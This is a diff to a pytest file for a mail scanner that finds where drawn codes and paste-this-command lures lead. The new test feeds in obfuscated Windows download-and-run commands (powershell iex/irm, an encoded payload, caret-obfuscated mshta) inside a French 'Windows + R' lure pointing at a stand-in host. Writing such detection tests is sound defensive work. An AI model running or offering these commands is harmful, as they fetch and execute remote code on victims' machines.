@@ -235,8 +235,22 @@ def test_where_a_code_leads_that_is_drawn_without_a_picture_is_told(name: str) -
 @pytest.mark.parametrize("name", ["in a page", "cells", "coloured blanks", "svg", "picture in base64"])
 def test_of_a_text_of_a_mail_the_codes_are_told_and_nothing_else(name: str) -> None:
     text = as_bytes(DRAWN[name]) + b"<a href='https://a.example'>Voir</a><form>"
-    report = looking.drawn_in(text, codes.CPU_S)
+    report = looking.led_by(text, codes.CPU_S)
     assert (report.links, report.codes, report.found) == ([EVIL], [EVIL], {})
+
+
+@pytest.mark.parametrize(
+    "said",
+    [
+        f"powershell -w h -c &quot;iex (irm (&#39;{EVIL[:9]}&#39;+&#39;{EVIL[9:]}&#39;))&quot;",
+        f"powershell -enc {b64encode(f'irm {EVIL} | iex'.encode('utf-16-le')).decode()}",
+        f"c^m^d /c m^s^h^t^a h^ttp^s://{EVIL[8:]}",
+        f"mshta https:\\u002f/{EVIL[8:]}",
+    ],
+)
+def test_of_a_text_of_a_mail_the_command_that_it_tells_to_paste_leads(said: str) -> None:
+    report = looking.led_by(f"Touche Windows + R, puis : {said}".encode(), codes.CPU_S)
+    assert (report.links, report.found) == ([EVIL], {})
 
 
 def test_what_is_drawn_costs_files_of_the_drive_nothing_and_a_table_is_no_code() -> None:
